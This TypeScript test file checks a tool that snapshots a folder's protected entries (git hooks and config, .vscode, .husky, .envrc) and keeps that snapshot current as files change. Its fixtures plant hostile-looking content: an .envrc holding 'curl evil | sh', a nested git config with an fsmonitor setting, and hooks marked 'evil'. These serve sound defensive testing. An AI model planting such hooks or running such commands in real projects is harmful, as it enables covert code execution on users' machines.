// A --commit direct segment photographs its folder's protected entries (directHeld.ts) when it begins changing files
// and again when it stops. Where the watcher vouches for the segment, the second photograph is the first brought up to
// date from the changed paths (`updatedProtected`): after every kind of change it must be the photograph a whole walk
// of the folder gives. Real files; the changed paths are given as the watcher gives them (outermost, a nested
// repository by its folder).
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  snapshotProtected,
  updatedProtected,
  type ProtectedSnapshot,
} from '../../../../main/core/persistent/directHeld.js';
import { makeTemp, writeFiles } from './support.js';

let root: string;

beforeEach(() => {
  root = makeTemp('keel-protected-photo-');
  writeFiles(root, {
    '.git/config': '[core]\n',
    'app/.vscode/tasks.json': '{"tasks": []}\n',
    '.husky/pre-commit': 'npm test\n',
    'sub/.git/config': '[core]\n',
    'sub/.git/hooks/pre-commit.sample': 'sample\n',
    'sub/.git/objects/ab/cdef': 'object\n',
    'sub/lib.ts': 'export {};\n',
    'src/a.ts': 'export const a = 1;\n',
    'node_modules/pkg/.vscode/x.json': '{}\n',
  });
});

afterEach(() => {
  fs.rmSync(root, { recursive: true, force: true });
});

const at = (rel: string) => path.join(root, rel);

describe("a segment's end photograph from the changed paths", () => {
  it('is the whole walk photograph after each kind of change', () => {
    let photo: ProtectedSnapshot = snapshotProtected(root);
    expect(Object.keys(photo.entries).sort()).toEqual([
      '.husky',
      '.husky/pre-commit',
      'app/.vscode',
      'app/.vscode/tasks.json',
      'sub/.git',
      'sub/.git/config',
      'sub/.git/hooks',
    ]);
    const steps: [string, () => void, string[]][] = [
      [
        'a protected file rewritten',
        () => fs.writeFileSync(at('app/.vscode/tasks.json'), 'evil\n'),
        ['app/.vscode/tasks.json'],
      ],
      ['a protected folder made', () => writeFiles(root, { '.idea/x.xml': '<x/>\n' }), ['.idea']],
      ['a protected file removed', () => fs.rmSync(at('.husky/pre-commit')), ['.husky/pre-commit']],
      [
        'a protected folder renamed away',
        () => fs.renameSync(at('app/.vscode'), at('app/vs')),
        ['app/.vscode', 'app/vs'],
      ],
      [
        'a folder renamed to a protected name',
        () => fs.renameSync(at('app/vs'), at('app/.vscode')),
        ['app/vs', 'app/.vscode'],
      ],
      [
        "a nested repository's config",
        () => fs.writeFileSync(at('sub/.git/config'), '[core]\nfsmonitor = x\n'),
        ['sub'],
      ],
      ['a hook made in it', () => writeFiles(root, { 'sub/.git/hooks/post-checkout': 'evil\n' }), ['sub']],
      [
        'a sample hook and an object',
        () => writeFiles(root, { 'sub/.git/hooks/x.sample': 's\n', 'sub/.git/objects/cd/ef': 'o\n' }),
        ['sub'],
      ],
      [
        'an object in a nested .git, named by its own path',
        () => writeFiles(root, { 'sub/.git/objects/ef/01': 'o\n' }),
        ['sub/.git/objects'],
      ],
      ['an ordinary file', () => fs.writeFileSync(at('src/a.ts'), 'export const a = 2;\n'), ['src/a.ts']],
      [
        'a protected name deep in a new folder',
        () => writeFiles(root, { 'deep/x/.envrc': 'curl evil | sh\n' }),
        ['deep'],
      ],
      [
        'a dependency folder',
        () => writeFiles(root, { 'node_modules/pkg/.husky/h': 'h\n' }),
        ['node_modules'],
      ],
      [
        'a link in a protected folder',
        () => fs.symlinkSync('../../src/a.ts', at('app/.vscode/link.json')),
        ['app/.vscode/link.json'],
      ],
      [
        'a file made a folder',
        () => {
          fs.rmSync(at('.idea/x.xml'));
          writeFiles(root, { '.idea/x.xml/inner': 'i\n' });
        },
        ['.idea/x.xml'],
      ],
    ];
    for (const [what, change, changed] of steps) {
      change();
      const updated = updatedProtected(root, photo, changed);
      expect(updated, what).toEqual(snapshotProtected(root));
      photo = updated as ProtectedSnapshot;
    }
    expect(photo.entries['sub/.git/hooks/post-checkout']).toMatchObject({ kind: 'file' });
    expect(photo.entries['deep/x/.envrc']).toMatchObject({ kind: 'file' });
    expect(Object.keys(photo.entries).some((key) => key.includes('.sample') || key.includes('objects'))).toBe(
      false,
    );
  });

  it('leaves the answer to the whole walk when a bound cut the first photograph', () => {
    const photo = snapshotProtected(root);
    expect(updatedProtected(root, { ...photo, complete: false }, ['src/a.ts'])).toBeUndefined();
  });
});
